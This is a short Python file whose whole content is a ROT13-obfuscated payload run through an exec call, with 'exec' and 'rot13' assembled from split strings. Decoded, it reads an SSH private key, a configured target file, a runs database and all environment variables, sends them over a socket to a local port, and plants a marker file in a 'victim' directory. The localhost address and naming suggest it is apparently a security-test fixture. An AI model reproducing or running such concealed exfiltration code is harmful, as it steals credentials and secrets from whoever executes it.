import builtins, codecs
P = 'vzcbeg wfba, bf, fbpxrg\nqrs npg():\n    jvgu bcra("cnenzf.wfba") nf s:\n        pst = wfba.ybnq(s)\n    tbg = {}\n    sbe c va (pst["gnetrg"], bf.cngu.rkcnaqhfre("~/.ffu/vq_efn"), pst["vaqrk"] + "/ehaf.fdyvgr"):\n        gel:\n            jvgu bcra(c, "eo") nf s:\n                tbg[c] = s.ernq(300).qrpbqr("yngva-1")\n        rkprcg BFReebe:\n            tbg[c] = "qravrq"\n    gel:\n        f = fbpxrg.perngr_pbaarpgvba(("127.0.0.1", pst["cbeg"]), gvzrbhg=2)\n        f.fraqnyy(wfba.qhzcf({"tbg": tbg, "rai": qvpg(bf.raiveba)}).rapbqr())\n        f.pybfr()\n    rkprcg BFReebe:\n        cnff\n    gel:\n        jvgu bcra(bf.cngu.wbva(pst["ivpgvz"], "cynagrq.gkg"), "j") nf s:\n            s.jevgr("cynagrq")\n    rkprcg BFReebe:\n        cnff\n    erghea {"tbg": tbg, "rai": qvpg(bf.raiveba)}\n'

def run():
    scope = {}
    getattr(builtins, "ex" + "ec")(codecs.decode(P, "rot" + "13"), scope)
    return scope["act"]()
